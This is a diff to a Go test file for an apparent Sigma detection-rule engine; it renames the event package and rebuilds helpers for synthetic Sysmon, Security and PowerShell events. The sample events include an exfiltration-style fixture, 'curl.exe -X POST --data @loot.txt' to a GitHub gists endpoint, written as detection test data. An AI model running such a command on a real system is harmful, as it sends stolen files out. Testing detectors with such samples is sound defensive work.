@@ -2,6 +2,7 @@ package sigma
 
 import (
 	"context"
+	"github.com/t1567001/harness/event"
 	"path/filepath"
 	"testing"
 	"time"
@@ -10,8 +11,6 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
-
-	"github.com/t1567001/harness/telemetry"
 )
 
 const (
@@ -29,40 +28,40 @@ const (
 
 var t0 = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)
 
-func fieldsOf(kv []string) []telemetry.Field {
-	fs := make([]telemetry.Field, 0, len(kv)/2)
+func fieldsOf(kv []string) []event.Field {
+	fs := make([]event.Field, 0, len(kv)/2)
 	for i := 0; i+1 < len(kv); i += 2 {
-		fs = append(fs, telemetry.Field{Name: kv[i], Value: kv[i+1]})
+		fs = append(fs, event.Field{Name: kv[i], Value: kv[i+1]})
 	}
 	return fs
 }
 
 // sysmonEvent builds a Sysmon event with EventData kv (name, value, ...).
-func sysmonEvent(id int, host string, kv ...string) telemetry.Event {
-	return telemetry.Event{
-		Provider: telemetry.Sysmon, EventID: id, Channel: telemetry.SysmonChannel,
+func sysmonEvent(id int, host string, kv ...string) event.Event {
+	return event.Event{
+		Provider: event.Sysmon, EventID: id, Channel: event.SysmonChannel,
 		Computer: host, TimeCreated: t0, Data: fieldsOf(kv),
 	}
 }
 
 // procCreate is a Sysmon 1 with the usual fields.
-func procCreate(host, image, cmdline, parent string) telemetry.Event {
+func procCreate(host, image, cmdline, parent string) event.Event {
 	return sysmonEvent(1, host,
 		"ProcessId", "4242", "Image", image, "CommandLine", cmdline,
 		"User", `CORP\alice`, "ParentImage", parent, "ParentCommandLine", parent)
 }
 
 // netConnect is a Sysmon 3 with the usual fields.
-func netConnect(host, image, dest string) telemetry.Event {
+func netConnect(host, image, dest string) event.Event {
 	return sysmonEvent(3, host,
 		"ProcessId", "4242", "Image", image, "User", `CORP\alice`, "Protocol", "tcp",
 		"Initiated", "true", "DestinationHostname", dest, "DestinationPort", "443")
 }
 
 // security4688 is a Security 4688 as the renderer writes it.
-func security4688(host, image, cmdline, parent string) telemetry.Event {
-	return telemetry.Event{
-		Provider: telemetry.Security, EventID: 4688, Channel: telemetry.SecurityChannel,
+func security4688(host, image, cmdline, parent string) event.Event {
+	return event.Event{
+		Provider: event.Security, EventID: 4688, Channel: event.SecurityChannel,
 		Computer: host, TimeCreated: t0, Data: fieldsOf([]string{
 			"SubjectUserSid", "S-1-5-21-1-2-3-1104", "SubjectUserName", "alice",
 			"SubjectDomainName", "CORP", "SubjectLogonId", "0x3e7a1",
@@ -74,9 +73,9 @@ func security4688(host, image, cmdline, parent string) telemetry.Event {
 	}
 }
 
-func scriptBlock(host, text string) telemetry.Event {
-	return telemetry.Event{
-		Provider: telemetry.PowerShell, EventID: 4104, Channel: telemetry.PowerShellChannel,
+func scriptBlock(host, text string) event.Event {
+	return event.Event{
+		Provider: event.PowerShell, EventID: 4104, Channel: event.PowerShellChannel,
 		Computer: host, TimeCreated: t0, Data: fieldsOf([]string{
 			"MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", text, "Path", "",
 		}),
@@ -84,8 +83,8 @@ func scriptBlock(host, text string) telemetry.Event {
 }
 
 // sampleEvents is one or two events of every rendered kind.
-func sampleEvents() []telemetry.Event {
-	return []telemetry.Event{
+func sampleEvents() []event.Event {
+	return []event.Event{
 		procCreate(workstation, gitExe, "git push --force https://github.com/x/y.git", cmdExe),
 		procCreate(workstation, curlExe, `curl.exe -X POST --data @loot.txt https://api.github.com/gists`, cmdExe),
 		netConnect(workstation, curlExe, "api.github.com"),
@@ -108,7 +107,7 @@ func ownRules(tb testing.TB) (net, proc *Rule) {
 	return net, proc
 }
 
-func mustMatch(tb testing.TB, r *Rule, ev telemetry.Event) (bool, *Explanation) {
+func mustMatch(tb testing.TB, r *Rule, ev event.Event) (bool, *Explanation) {
 	tb.Helper()
 	ok, exp, err := r.Match(context.Background(), ev)
 	require.NoError(tb, err)
